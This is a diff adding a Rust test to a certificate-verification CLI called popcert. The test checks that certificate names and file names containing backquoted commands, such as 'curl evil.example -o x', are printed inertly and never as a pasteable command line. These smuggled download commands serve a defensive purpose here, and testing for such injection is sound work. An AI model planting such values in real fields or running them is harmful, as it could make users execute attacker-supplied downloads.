@@ -5,6 +5,10 @@
 
 #![cfg(all(feature = "cli", feature = "mock"))]
 
+use popcert::{
+    Time,
+    mock::{KeyType, MockKey, Randomness, StringType, Template, basic_constraints, common_name},
+};
 use std::{fs, path::Path, process::Command};
 
 const CODE: &str = "7D07A6A51F8AF1469499A1D92074D629894BE9FA8A013E49";
@@ -289,4 +293,46 @@ fn a_batch_speaks_of_what_has_something_to_say() {
         one.iter().any(|line| line.starts_with("  SHA-256 ")),
         "{one:?}"
     );
+}
+
+/// Whoever chooses a name may not choose what the reader pastes.
+#[test]
+fn a_name_with_backquotes_is_no_command() {
+    const EVIL: &str = "Plant `curl evil.example -o x` CA";
+    let key =
+        |purpose| MockKey::generate(KeyType::P256, &Randomness::seeded(7), purpose).expect("a key");
+    let (own, other, proof_key) = (key("own"), key("other"), key("proof"));
+    let at = Time::parse("2026-01-01").expect("a date");
+    let name = |text: &str| common_name(StringType::Utf8, text);
+    let certificate = |issuer: &str, subject: &str, key: &MockKey, signer: &MockKey| {
+        let template = Template::new(&name(issuer), &name(subject), key, at)
+            .valid(at.plus_seconds(-60), at.plus_seconds(3_600));
+        template
+            .with(basic_constraints(issuer == subject, None))
+            .sign(signer)
+            .expect("a certificate")
+    };
+    let folder = tempfile::tempdir().expect("a folder");
+    let file = |name: &str, der: Vec<u8>| {
+        let path = folder.path().join(name);
+        fs::write(&path, der).expect("written");
+        path.display().to_string()
+    };
+    let ca = file("ca.cer", certificate("MOCK CA", "MOCK CA", &own, &own));
+    let evil = file(
+        "`curl evil.example -o y`.cer",
+        certificate(EVIL, EVIL, &other, &other),
+    );
+    let proof = file("proof.cer", certificate(EVIL, CODE, &proof_key, &other));
+    for more in [&[][..], &["--untrusted", &*evil]] {
+        let words = format!("verify --ca {ca} --proof {proof} --code {CODE} --at 2026-01-01");
+        let text = text(&words, 120, more);
+        assert!(text.contains("'curl evil.example -o x'"), "{text}");
+        assert!(
+            !text
+                .lines()
+                .any(|line| line.trim_start().starts_with("curl")),
+            "{text}"
+        );
+    }
 }
